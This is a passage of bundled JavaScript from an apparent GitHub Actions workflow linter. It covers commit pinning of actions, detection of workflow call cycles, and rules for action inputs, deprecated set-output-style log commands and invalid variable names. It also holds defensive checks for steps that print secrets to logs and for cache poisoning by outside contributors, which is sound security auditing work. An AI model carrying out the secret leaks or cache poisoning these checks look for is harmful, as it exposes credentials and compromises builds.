"use strict";
exports.id = 433;
exports.ids = [433];
exports.modules = {

/***/ 9056:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
var releaseOf = (function releaseOf({ ref = '', slug }, comment) {
    if (!(0,_portcullis_formats_workflow__WEBPACK_IMPORTED_MODULE_0__/* .isCommitRef */ .ZW)(ref))
        return released((0,_version_js__WEBPACK_IMPORTED_MODULE_1__/* .versionIn */ .I)(ref), true);
    const known = Object.hasOwn(tags, slug) ? tags[slug]?.find((line) => line.endsWith(` ${ref.toLowerCase()}`)) : undefined;
    return known === undefined ? released((0,_version_js__WEBPACK_IMPORTED_MODULE_1__/* .versionIn */ .I)(comment ?? ''), false) : released((0,_version_js__WEBPACK_IMPORTED_MODULE_1__/* .versionIn */ .I)(known.slice(0, known.indexOf(' '))), true);
});
var released = (function released(version, proved) {
    return version === undefined ? undefined : { version, proved };
});


/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   releaseOf: () => (/* binding */ releaseOf)
/* harmony export */ });
/* harmony import */ var _portcullis_formats_workflow__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5725);
/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(5840);
// Releases whose commits are told apart, since by the release it is decided whether something is safe.
//
// A comment behind a commit is written by whoever writes the workflow: it may name any release, and by itself it calms nobody.


/** Tags and their commits, of those releases that decide: read from the repositories themselves, 2026-12-01. */
const tags = {
    'actions/checkout': [
        'v2.8.0 0717577d45739eb3c851188b29f50ed6c0b2194e',
        'v3.7.0 a37ce9120846195fa4ece8f58b268e6043cb2f26',
        'v4.4.0 11d5960a326750d5838078e36cf38b85af677262',
        'v5.1.0 fbc6f3992d24b796d5a048ff273f7fcc4a7b6c09',
        'v6.0.0 1af3b93b6815bc44a9784bd300feb67ff0d1eeb3',
        'v6.0.1 8e8c483db84b4bee98b60c0593521ed34d9990e8',
        'v6.0.2 de0fac2e4500dabe0009e67214ff5f5447ce83dd',
        'v6.0.3 df4cb1c069e1874edd31b4311f1884172cec0e10',
        'v6.1.0 d23441a48e516b6c34aea4fa41551a30e30af803',
        'v7.0.0 9c091bb21b7c1c1d1991bb908d89e4e9dddfe3e0',
        'v7.0.1 3d3c42e5aac5ba805825da76410c181273ba90b1',
    ],
    'actions/upload-artifact': [
        'v4.0.0 c7d193f32edcb7bfad88892161225aeda64e9392',
        'v4.1.0 1eb3cb2b3e0f29609092a73eb033bb759a334595',
        'v4.2.0 694cdabd8bdb0f10b2cea11669e1bf5453eed0a6',
        'v4.3.0 26f96dfa697d77e81fd5907df203aa23a56210a8',
        'v4.3.1 5d5d22a31266ced268874388b861e4b58bb5c2f3',
        'v4.3.2 1746f4ab65b179e0ea60a494b83293b640dd5bba',
        'v4.3.3 65462800fd760344b1a7b4382951275a0abb4808',
        'v4.3.4 0b2256b8c012f0828dc542b3febcab082c67f72b',
        'v4.3.5 89ef406dd8d7e03cfd12d9e0a4a378f454709029',
        'v4.3.6 834a144ee995460fba8ed112a2fc961b36a5ec5a',
    ],
    'dawidd6/action-download-artifact': [
        'v4 854e2de9396304899dbe03bf9995fd73533190d1',
        'v5 deb3bb83256a78589fef6a7b942e5f2573ad7c13',
        'v6 bf251b5aa9c2f7eeb574a96ee720e24f801b7c11',
        'v7 80620a5d27ce0ae443b965134db88467fc607b43',
        'v8 20319c5641d495c8a52e688b7dc5fada6c3a9fbc',
        'v9 07ab29fd4a977ae4d2b275087cf67563dfdf0295',
        'v10 4c1e823582f43b179e2cbb49c3eade4e41f992e2',
        'v11 ac66b43f0e6a346234dd65d4d0c8fbb31cb316e5',
        'v12 0bd50d53a6d7fb5cb921e607957e9cc12b4ce392',
        'v13 883bc3da0e2f55ddd0a8fc8e99378551c1991a55',
        'v14 5c98f0b039f36ef966fdb7dfa9779262785ecb05',
        'v15 fe9d59ce33ce92db8a6ac90b2c8be6b6d90417c8',
        'v16 2536c51d3d126276eb39f74d6bc9c72ac6ef30d3',
        'v17 09b07ec687d10771279a426c79925ee415c12906',
        'v18 1f8785ff7a5130826f848e7f72725c85d241860f',
        'v19 8a338493df3d275e4a7a63bcff3b8fe97e51a927',
        'v20 8305c0f1062bb0d184d09ef4493ecb9288447732',
        'v21 b6e2e70617bc3265edd6dab6c906732b2f1ae151',
    ],
};
/**
 * The release that a `uses:` stands for.
 * @param comment version in the comment beside it.
 */




/***/ }),

/***/ 7718:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
var callsOf = (function callsOf({ document }, repository) {
    if (document.kind !== 'workflow')
        return [];
    return document.jobs.flatMap((job) => {
        const target = job.uses?.target.kind === 'local' ? repository.workflow(job.uses.target) : undefined;
        return target === undefined ? [] : [{ job, target }];
    });
});


/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   callsOf: () => (/* binding */ callsOf),
/* harmony export */   o: () => (/* binding */ callCircles)
/* harmony export */ });
// Reusable workflows of one repository that call one another in a circle, which GitHub refuses to start.
const known = new WeakMap();
/** The way round by the job that begins it: paths of the workflows, the first one again at the end. Of ways that meet, one is told. */
function callCircles(repository) {
    const made = known.get(repository) ?? circles(repository);
    known.set(repository, made);
    return made;
}
function circles(repository) {
    const found = new Map();
    const done = new Set();
    for (const start of repository.workflows()) {
        const before = found.size;
        const way = [];
        const places = new Map();
        const enter = (file) => {
            done.add(file);
            places.set(file, way.length);
            way.push({ file, calls: callsOf(file, repository), next: 0 });
        };
        if (!done.has(start))
            enter(start);
        for (let top = way.at(-1); top !== undefined; top = way.at(-1)) {
            const call = top.calls[top.next++];
            if (call === undefined) {
                way.pop();
                places.delete(top.file);
                continue;
            }
            const from = places.get(call.target);
            if (from !== undefined && found.size === before) {
                const round = way.slice(from);
                const first = round[0]?.calls[round[0].next - 1]?.job;
                if (first !== undefined)
                    found.set(first, [...round.map(({ file }) => file.file.path), call.target.file.path]);
            }
            if (!done.has(call.target))
                enter(call.target);
        }
    }
    return found;
}
/** What the jobs of a workflow call of its repository. */



/***/ }),

/***/ 5245:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ looseSteps),
/* harmony export */   runsOf: () => (/* binding */ runsOf)
/* harmony export */ });
/* harmony import */ var _sites_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1900);
/* harmony import */ var _too_many_calls_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6185);
// Every way in which the jobs of a repository run: each job of each workflow that an event starts, and once more for each job that calls
// it, with the steps of the composite actions that it uses in their places.


/** How deep GitHub lets workflows call others, and composite actions use others. */
const maxDepth = 10;
/** Runs of jobs, and of steps, that are gone through in one repository. */
const maxJobs = 10_000;
const maxSteps = 50_000;
/** Steps of one job, those of composite actions among them: ten levels of four uses each would be a million. */
const maxStepsOfJob = 2000;
const none = new Map();
const known = new WeakMap();
/** Runs of all workflows, worked out once. */
function runsOf(repository) {
    const runs = known.get(repository) ?? build(repository).runs;
    known.set(repository, runs);
    return runs;
}
/** How many steps of actions that nobody uses were gone through. */
const looseGone = new WeakMap();
/** Steps of a composite action that nobody in its repository uses, those of the actions that it uses among them. */
function looseSteps(repository, file) {
    const before = looseGone.get(repository) ?? 0;
    if (before >= maxSteps)
        return { steps: [], cut: true };
    const { loose, runs } = build(repository, file);
    looseGone.set(repository, before + loose.length);
    return { steps: loose, cut: runs.cut };
}
function build(repository, alone) {
    const jobs = [];
    const workflows = [];
    const loose = [];
    let steps = 0;
    let cut = false;
    const used = new Set();
    const called = new Set();
    // Who calls one of those that are not started is none that is started either.
    const entries = (alone === undefined ? repository.workflows() : []).flatMap((file) => file.document.kind === 'workflow' && !(0,_too_many_calls_js__WEBPACK_IMPORTED_MODULE_0__/* .callingTooMany */ ._)(repository).has(file.file.path) ? [{ file, workflow: file.document }] : []);
    for (const { workflow } of entries)
        for (const { uses } of workflow.jobs) {
            const target = uses?.target.kind === 'local' ? repository.workflow(uses.target) : undefined;
            if (target !== undefined)
                called.add(target.file.path);
        }
    for (const { file, workflow } of entries) {
        const starts = workflow.triggers.some(({ name }) => name !== 'workflow_call');
        if (starts || !called.has(file.file.path))
            workflowRun(file, workflow, workflow, undefined, !starts, []);
    }
    if (alone !== undefined)
        addSteps((0,_sites_js__WEBPACK_IMPORTED_MODULE_1__/* .compositeSteps */ .LC)(alone.document), alone, undefined, undefined, loose, []);
    return { runs: { workflows, jobs, used, cut }, loose };
    function workflowRun(file, workflow, entry, caller, openCall, chain) {
        const { path } = file.file;
        if (chain.includes(path))
            return undefined;
        if (chain.length >= maxDepth) {
            cut = true;
            return undefined;
        }
        const own = new Map();
        const run = { file, workflow, entry, caller, openCall, jobs: own, among: jobs };
        workflows.push(run);
        for (const job of workflow.jobs) {
            if (jobs.length >= maxJobs || steps >= maxSteps) {
                cut = true;
                break;
            }
            own.set(job.id.toLowerCase(), jobRun(job, run, [...chain, path]));
        }
        return run;
    }
    function jobRun(job, within, chain) {
        const list = [];
        const run = { within, job, steps: list, calls: undefined };
        jobs.push(run);
        addSteps(job.steps, within.file, run, undefined, list, []);
        const target = job.uses?.target.kind === 'local' ? repository.workflow(job.uses.target) : undefined;
        if (target?.document.kind === 'workflow')
            run.calls = workflowRun(target, target.document, within.entry, run, within.openCall, chain);
        return run;
    }
    function addSteps(own, file, job, parent, list, chain) {
        const siblings = new Map();
        for (const step of own) {
            if (list.length >= maxStepsOfJob || steps++ >= maxSteps) {
                cut = true;
                break;
            }
            const { uses } = step;
            const target = uses?.target.kind === 'local' ? repository.action(uses.target) : undefined;
            const run = { step, file, job, parent, siblings, order: list.length, inner: target, inside: none };
            list.push(run);
            if (step.id !== undefined)
                siblings.set(step.id.text.toLowerCase(), run);
            if (target === undefined)
                continue;
            const { path } = target.file;
            used.add(path);
            if (chain.includes(path))
                continue;
            if (chain.length >= maxDepth) {
                cut = true;
                continue;
            }
            run.inside = addSteps((0,_sites_js__WEBPACK_IMPORTED_MODULE_1__/* .compositeSteps */ .LC)(target.document), target, job, run, list, [...chain, path]);
        }
        return siblings;
    }
}


/***/ }),

/***/ 7433:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
var inputsOf = (function inputsOf({ interface: { inputs } }) {
    return new Map(inputs.map(({ default: preset, deprecation, name, required }) => [
        name.toLowerCase(),
        { name, required: required?.text === 'true' && preset === undefined, deprecated: deprecation !== undefined },
    ]));
});
var contextsOf = (function contextsOf({ owner }, context) {
    const before = scopes_contexts.get(owner);
    if (before !== undefined)
        return before;
    const made = contextsMade(owner, context);
    scopes_contexts.set(owner, made);
    return made;
});
var once = (function once(of, what, make) {
    let known = scopes_remembered.get(of);
    if (known === undefined) {
        known = new Map();
        scopes_remembered.set(of, known);
    }
    if (!known.has(what))
        known.set(what, make());
    return known.get(what);
});
var includes = (function includes(whole, part, depth) {
    if (depth > 20 || keyOf(part, 0).includes('${{'))
        return true;
    if (whole.kind === 'scalar')
        return whole.text.includes('${{') || (part.kind === 'scalar' && whole.text === part.text);
    if (whole.kind === 'list')
        return (part.kind === 'list' &&
            whole.items.length === part.items.length &&
            whole.items.every((item, index) => includes(item, part.items[index], depth + 1)));
    return (part.kind === 'map' &&
        part.entries.every(({ name, value }) => {
            const own = whole.entries.find((entry) => entry.name === name);
            return own !== undefined && includes(own.value, value, depth + 1);
        }));
});
var namesIn = (function namesIn({ arguments: [list, asked], name }) {
    if (name.toLowerCase() !== 'contains' || list?.kind !== 'literal' || typeof list.value !== 'string')
        return undefined;
    if (asked === undefined || !refersToContext(asked))
        return undefined;
    const names = list.value.split(/[\s,;|]+/).filter((part) => part !== '');
    return names.length === 0 || list.value.includes("'") ? undefined : names;
});
var ofCall = (function* ofCall(job, uses, context) {
    if (uses.target.kind !== 'local')
        return;
    const { repository } = context;
    const called = repository.workflow(uses.target)?.document;
    if (called === undefined) {
        // Of a checkout in part nothing is known.
        if (repository.has(uses.target.path) === false && repository.workflows().length > 1)
            yield { at: uses.scalar.at, message: `There is no workflow ${uses.text.slice(0, 80)}` };
        return;
    }
    if (called.kind !== 'workflow')
        return;
    if (called.call === undefined) {
        yield { at: uses.scalar.at, message: `The workflow ${uses.text.slice(0, 80)} cannot be called: it has no trigger "workflow_call"` };
        return;
    }
    const circle = (0,circles/* callCircles */.o)(repository).get(job);
    if (circle !== undefined)
        yield { at: uses.scalar.at, message: `Workflows call one another: ${workflow_call_shown(circle)}` };
    yield* workflow_call_ofInputs(job, uses, called.call, context);
    if (job.secrets?.inherit !== true)
        yield* workflow_call_ofNames('secret', job.secrets?.pairs ?? [], called.call.secrets, uses.scalar);
});
var shortest = (function shortest(minutes) {
    if (minutes.length < 2)
        return 60;
    const gaps = minutes.map((minute, index) => index === 0 ? minute + 60 - minutes.at(-1) : minute - minutes[index - 1]);
    return Math.min(...gaps);
});
var prints = (function prints(text, { start, end }, secrets) {
    const own = text.slice(start, end);
    if (!/^(?:echo|printf|cat)\b/.test(own))
        return false;
    return bringsSecret(own) || variablesNamed(own).some((name) => secrets.placeOf(name) !== undefined);
});
var groupsOf = (function groupsOf(pattern) {
    const groups = [];
    const open = [];
    let inSet = false;
    for (let at = 0; at < pattern.length; at++) {
        const here = pattern[at];
        if (here === '\\')
            at++;
        else if (inSet)
            inSet = here !== ']';
        else if (here === '[')
            inSet = true;
        else if (here === '(') {
            const head = /^\((?:\?<(?![=!])\w{1,50}>|\?[:=!<]*)?/.exec(pattern.slice(at, at + 60))?.[0] ?? '(';
            const counted = head === '(' || head.endsWith('>');
            open.push({ from: at + head.length, number: counted ? groups.push('') - 1 : undefined });
        }
        else if (here === ')') {
            const closed = open.pop();
            if (closed?.number !== undefined)
                groups[closed.number] = pattern.slice(closed.from, at);
        }
    }
    return groups;
});
var collect = (function collect(tokens, names) {
    for (const { kind, start, end, tokens: inner, holes } of tokens) {
        if (kind === 'name')
            names.add(`${start} ${end}`);
        for (const part of [inner, ...holes])
            collect(part, names);
    }
});
var modeOf = (function modeOf(job) {
    return (job.cacheMode ?? job.workflow.cacheMode)?.text;
});
var judge = (function judge({ source }, run, aim = 'text') {
    const rights = run.job === undefined ? undefined : (0,graph_rights.rightsOf)(run.job);
    let found;
    for (const event of eventsFor(source, run)) {
        const one = underEvent(source, run, event, rights, aim);
        if (one !== undefined && (found === undefined || (0,severity/* worst */.QZ)(one.severity, found.severity) !== found.severity))
            found = one;
    }
    return found;
});
var reached = (function reached(run, event, reach, waits, rights) {
    if (waits && reach === 'invited' && choosesByPerson.test(rights?.environment ?? ''))
        return { severity: 'medium' };
    const valuable = rights !== undefined && (0,graph_rights/* isValuable */.TS)(rights);
    if (!valuable && reach === 'alone' && run.job !== undefined && poisonsCaches(run.job, event))
        return { severity: 'high', caches: true };
    return { severity: outsiders(event, reach, valuable, rights?.selfHosted === true) };
});
var imageOf = (function imageOf(container) {
    return container?.image ?? (container?.value.kind === 'scalar' ? container.value : undefined);
});
var partsOf = (function partsOf(entries, scope, run) {
    return entries.flatMap(([scalar, role, degrees]) => scalar === undefined || !scalar.text.includes('${{') ? [] : [{ scalar, scope, run, role, degrees }]);
});
var writtenIn = (function writtenIn({ style }, text) {
    if (style === 'double')
        return text.includes('\\') ? undefined : text.replaceAll('"', '\\"');
    return style === 'single' ? text.replaceAll("'", "''") : text;
});
var isOwn = (function isOwn({ text }) {
    return text.trim().toLowerCase() === 'self-hosted';
});
var pinned = (function pinned(uses, file) {
    const { scalar, target } = uses;
    const at = (0,workflow_uses/* refSpan */.Ov)(uses);
    const pin = target.kind === 'repository' ? pinOf(target) : undefined;
    if (at === undefined || pin === undefined || scalar.alias !== undefined)
        return undefined;
    const end = (0,src_edits/* lineEndAt */.fT)(file, scalar.at.end);
    // A comment that is there says something already, and in braces more may follow.
    const rest = file.text.slice(at.end, end);
    if (!/^["']?\s*$/.test(rest))
        return undefined;
    // One edit to the end of the line: what another audit adds there stays behind it.
    const edits = [{ start: at.start, end, replacement: `${pin.commit}${rest} # ${pin.tag}` }];
    return { description: `Pin to the commit of ${pin.tag}`, kind: 'suggested', edits };
});
var familyOf = (function familyOf(ruleId) {
    if (audits/* onlineRules */.NO.some(({ id }) => id === ruleId))
        return 'supply-chain';
    return Object.entries(families).find(([, rules]) => rules.some(({ id }) => id === ruleId))?.[0];
});



// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  auditRules: () => (/* binding */ auditRules),
  familyOf: () => (/* binding */ familyOf)
});

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/online/audits.js + 1 modules
var audits = __webpack_require__(2398);
// EXTERNAL MODULE: ./build/bundled/packages/lint/src/rule.js
var rule = __webpack_require__(4246);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/actions.js + 1 modules
var actions = __webpack_require__(7038);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rule.js
var src_rule = __webpack_require__(2352);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/uses-comment.js
var uses_comment = __webpack_require__(166);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/controls.js
var controls = __webpack_require__(4068);
// EXTERNAL MODULE: ./build/bundled/packages/core/src/risks.js
var risks = __webpack_require__(4272);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/words.js
var words = __webpack_require__(2555);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/action-use.js
// What a step gives to an action, held against what the action takes; and actions that no runner can start any more.






const head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const actionUse = (0,src_rule/* audit */.s)({
    id: 'action-inputs',
    aliases: ['action'],
    severity: 'medium',
    confidence: 'high',
    title: 'A step gives an action what it does not take',
    why: 'Such a step fails, or does something else than it says: an unknown input is passed over, and a runtime that is gone is replaced by one that the action was never tried with.',
    remedy: 'Give the inputs that the action has at this version, or use a version that a runner can start.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.thirdParty,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/metadata-syntax#inputs'],
    on: ['action-step'],
    *check(step, context) {
        if (step.uses === undefined)
            return;
        const { scalar, target } = step.uses;
        if (target.kind === 'image') {
            if (/\s/.test(target.image.trim()) && !target.image.includes('${{'))
                yield { at: scalar.at, message: 'The name of an image has no blank' };
            else if (/:$/.test(target.image))
                yield { at: scalar.at, message: 'The image has no tag behind its colon' };
        }
        else if (target.kind === 'local')
            yield* ofLocal(step, step.uses, context);
        else if (target.kind === 'unknown' || target.ref === undefined || target.ref === '')
            yield* ofForm(step.uses);
        else {
            const face = (0,actions.actionFace)(target, (0,uses_comment/* usesComment */.f)(step.uses, context.file));
            if (face !== undefined)
                yield* ofFace(step, step.uses, face, context);
        }
    },
    examples: {
        bad: [
            { text: `${head}      - uses: actions/checkout@v4\n        with:\n          fetch-deth: 0\n` },
            { text: `${head}      - uses: actions/cache@v4\n        with:\n          path: a\n` },
            { text: `${head}      - uses: actions/checkout@v2\n` },
            { text: `${head}      - uses: actions/checkout\n` },
        ],
        good: [
            {
                text: `name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0\n        with:\n          path: a\n          Key: b\n`,
            },
        ],
    },
});
function* ofForm({ scalar, text }) {
    if (text.includes('${{'))
        yield { at: scalar.at, message: 'The name of an action cannot be an expression' };
    else
        yield {
            at: scalar.at,
            message: `"${text.slice(0, 80)}" names no action; expected OWNER/NAME@REF, OWNER/NAME/PATH@REF, ./PATH or docker://IMAGE`,
        };
}
/** What runners start: the others have been taken out of them. */
const started = /^(?:node20|node24|docker|composite)$/i;
function* ofFace(step, uses, face, context) {
    if (!face.merged && !started.test(face.using))
        yield tooOld(uses, face.using);
    yield* ofInputs(step, uses, face.inputs, context);
}
function tooOld({ scalar }, using) {
    const runtime = using === '' ? 'code that runners once had built in' : `${using.slice(0, 40)}, which runners have no more`;
    return { at: scalar.at, message: `The action is made for ${runtime}; use a newer version`, severity: 'low' };
}
function* ofInputs(step, uses, inputs, context) {
    const name = uses.text.slice(0, 80);
    const given = new Set(step.with.map((pair) => pair.name.toLowerCase()));
    const computed = step.with.some((pair) => pair.name.includes('${{')) || step.withEntry?.value.kind === 'scalar';
    for (const input of inputs.values()) {
        if (input.required && !computed && !given.has(input.name.toLowerCase()))
            yield { at: uses.scalar.at, message: `The action ${name} needs the input "${input.name}"` };
    }
    for (const pair of step.with) {
        const written = pair.name.toLowerCase();
        const input = inputs.get(written);
        if (written.includes('${{') || isDockerInput(written))
            continue;
        if (input?.deprecated === true)
            yield { at: pair.key.at, message: `The input "${pair.name}" of ${name} is deprecated`, severity: 'low' };
        if (input !== undefined)
            continue;
        const names = [...inputs.values()].map((each) => each.name);
        const instead = (0,words/* nearest */.pA)(written, names);
        const known = names.length === 0 ? 'it has none' : `it has ${names.slice(0, 24).join(', ')}${names.length > 24 ? ' and more' : ''}`;
        const certain = instead !== undefined &&
            !given.has(instead.toLowerCase()) &&
            context.file.text.slice(pair.key.at.start, pair.key.at.end) === pair.name;
        yield {
            at: pair.key.at,
            message: `The action ${name} has no input "${pair.name.slice(0, 60)}"; ${known}`,
            ...(certain ? { fix: () => (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)(`Write "${instead}".`, (0,rule/* replace */.HC)(pair.key.at, instead))) } : {}),
        };
    }
}
/** What GitHub itself reads of steps that start a container. */
function isDockerInput(name) {
    return name === 'entrypoint' || name === 'args';
}
function* ofLocal(step, uses, context) {
    const { target } = uses;
    if (target.kind !== 'local' || target.path.split('/').includes('..'))
        return;
    const { repository } = context;
    const action = repository.action(target)?.document;
    if (action?.kind === 'action') {
        const using = action.using?.text ?? '';
        if (using !== '' && !started.test(using))
            yield tooOld(uses, using);
        yield* ofInputs(step, uses, inputsOf(action), context);
        if (step.index <= maxBefore(step))
            yield* ofFiles(uses, action, target.path, context);
        return;
    }
    if (isFile(context, target.path)) {
        const path = `./${target.path.slice(0, 80)}`;
        const instead = /(?:^|\/)action\.ya?ml$/i.test(path)
            ? 'name the folder that it lies in'
            : 'a workflow is called by the `uses` of a job';
        yield { at: uses.scalar.at, message: `${path} is a file and no folder with an action; ${instead}` };
        return;
    }
    // What a step before this one checks out or builds may bring it, and of a checkout in part nothing is known.
    if (action !== undefined || step.index > maxBefore(step) || !isWhole(repository, target.path))
        return;
    if (!isAction(context, target.path))
        yield { at: uses.scalar.at, message: `There is no action at ./${target.path.slice(0, 80)}` };
}
/** What an action runs must lie beside it, where nothing before the step can have put it there. */
function* ofFiles({ scalar }, { runs }, path, { repository }) {
    const files = runs.kind === 'node'
        ? [runs.main, runs.pre, runs.post]
        : runs.kind === 'docker' && !/^docker:/.test(runs.image?.text ?? '')
            ? [runs.image]
            : [];
    for (const file of files) {
        if (file === undefined || file.text.includes('${{'))
            continue;
        const whole = joined(path, file.text);
        if (whole !== undefined && repository.has(whole) === false)
            yield { at: scalar.at, message: `The action runs ${file.text.slice(0, 80)}, and there is no such file` };
    }
}
function joined(path, file) {
    const parts = [];
    for (const part of `${path}/${file}`.split('/')) {
        if (part === '..' && parts.pop() === undefined)
            return undefined;
        if (part !== '' && part !== '.' && part !== '..')
            parts.push(part);
    }
    return parts.join('/');
}
/** Whether the folder in which a path should lie has something else in it than what is looked at. */
function isWhole({ has, list }, path) {
    if (has(path) === undefined)
        return false;
    const at = path.lastIndexOf('/');
    return list(at < 0 ? '' : path.slice(0, at)).some((name) => !name.startsWith('.'));
}
/** Of YAML alone: whoever names another file means one that a step before is to bring. */
function isFile({ repository }, path) {
    return /\.ya?ml$/i.test(path) && repository.has(path) === true && repository.text(path) !== undefined;
}
function isAction({ repository }, path) {
    const folder = path === '' ? '' : `${path}/`;
    return ['action.yml', 'action.yaml', 'Dockerfile'].some((name) => repository.has(folder + name) === true);
}
/** Index of the last step before which nothing but this repository's own checkout can have written files. */
function maxBefore({ owner }) {
    const first = owner.steps.findIndex(({ uses, run, with: given }) => {
        if (run !== undefined)
            return true;
        const target = uses?.target;
        const checkout = target?.kind === 'repository' && target.slug === 'actions/checkout';
        return !checkout || given.some(({ name }) => name === 'repository' || name === 'ref' || name === 'path');
    });
    return first < 0 ? owner.steps.length : first;
}


;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/deprecated-commands.js
// Commands in the log that runners no longer take: set-output and save-state, set-env and add-path.



const deprecated_commands_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const files = {
    'set-output': 'GITHUB_OUTPUT',
    'save-state': 'GITHUB_STATE',
    'set-env': 'GITHUB_ENV',
    'add-path': 'GITHUB_PATH',
};
const deprecatedCommands = (0,src_rule/* audit */.s)({
    id: 'deprecated-commands',
    severity: 'medium',
    confidence: 'high',
    title: 'A command in the log that sets what later steps read',
    why: 'Whatever a program prints can be such a command, so whoever is printed decides what later steps get; runners refuse it or will.',
    remedy: 'Append `name=value` to the file that the runner names.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands'],
    on: ['script-step'],
    only: ({ run }) => run?.text.includes('::') === true,
    check: (step, context) => ofStep(step, context),
    examples: {
        bad: [
            { text: `${deprecated_commands_head}      - run: echo "::set-output name=a::b"\n` },
            { text: `${deprecated_commands_head}      - run: |\n          make\n          echo '::add-path::/opt/a'\n` },
            { text: `${deprecated_commands_head}      - run: echo "::save-state name=a::$(cat b | tr -d c)"\n` },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "a=b" >> "$GITHUB_OUTPUT"\n      - run: echo "::notice::set-output is gone"\n',
            },
        ],
    },
});
function* ofStep({ run, shell }, context) {
    if (run === undefined)
        return;
    for (const found of run.text.matchAll(/::(?:(save-state|set-output|set-env)[ \t]{1,20}name=[A-Za-z_][\w-]{0,200}::\S|(add-path)::\S)/g)) {
        const command = found[1] ?? found[2];
        const at = context.placeIn(run, found.index, found.index + command.length + 2);
        const posix = shell === undefined || /^(?:ba)?sh\b/.test(shell.text);
        yield {
            at,
            message: `Runners take the command "${command}" no more; append to the file that $${files[command]} names`,
            fix: () => (posix ? rewritten(run.text, found.index, context, run) : undefined),
        };
    }
}
/** A line that does nothing but print the command. */
function rewritten(text, at, context, run) {
    const start = text.lastIndexOf('\n', at) + 1;
    const newline = text.indexOf('\n', at);
    const end = newline < 0 ? text.length : newline;
    const line = text.slice(start, end);
    const found = /^\s{0,200}(echo[ \t]+)(["'])::(set-output|save-state|set-env)[ \t]+name=([A-Za-z_][\w-]*)::([^"'`\\;&|<>]*)\2[ \t]*$/.exec(line);
    if (found === null || run.style === 'folded' || run.style === 'double' || run.style === 'single')
        return undefined;
    const [, echo = '', quote = '', command = '', name = '', value = ''] = found;
    const from = start + line.indexOf('echo');
    const to = start + line.trimEnd().length;
    const replacement = `${echo}${quote}${name}=${value}${quote} >> "$${files[command]}"`;
    return (0,rule/* fix */.Up)(`Append to $${files[command]} instead.`, (0,rule/* replace */.HC)(context.placeIn(run, from, to), replacement));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/env-names.js
// Names of environment variables that no shell can read.


const envNames = (0,src_rule/* audit */.s)({
    id: 'env-var',
    severity: 'low',
    confidence: 'high',
    title: 'A variable that no script can read',
    why: 'The name is taken apart or passed over, so the variable is empty where it is read.',
    remedy: 'Use letters, digits and `_` in the name.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    on: ['workflow', 'job', 'step'],
    only: (part) => part.env.length > 0 || part.kind === 'job',
    *check(part) {
        yield* ofNames(part.env);
        if (part.kind === 'job')
            for (const container of [...(part.container === undefined ? [] : [part.container]), ...part.services])
                yield* ofNames(container.env);
    },
    examples: {
        bad: [{ text: 'on: push\nenv:\n  A B: c\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n' }],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\nenv:\n  A_B: c\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
            },
        ],
    },
});
function* ofNames(pairs) {
    for (const { key, name } of pairs) {
        if (name.includes('${{'))
            continue;
        if (name === '')
            yield { at: key.at, message: 'A variable needs a name' };
        if (!/[&=\s]/.test(name))
            continue;
        yield { at: key.at, message: `No variable is named "${name.slice(0, 60)}": a name has no blank, \`&\` or \`=\`` };
    }
}

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/check.js
var check = __webpack_require__(8942);
// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/types.js
var types = __webpack_require__(7495);
// EXTERNAL MODULE: ./build/bundled/packages/core/src/remembered.js
var remembered = __webpack_require__(1656);
// EXTERNAL MODULE: ./build/bundled/packages/formats/src/expression/contexts.js
var contexts = __webpack_require__(8784);
// EXTERNAL MODULE: ./build/bundled/packages/formats/src/yaml/value.js
var yaml_value = __webpack_require__(1702);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/shape.js + 2 modules
var shape = __webpack_require__(7723);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/scopes.js
// What an expression may refer to where it stands: the types of contexts that depend on the workflow, job and step.






const objectOf = (entries, others) => ({
    kind: 'object',
    properties: new Map([...entries].map(([name, type]) => [name.toLowerCase(), type])),
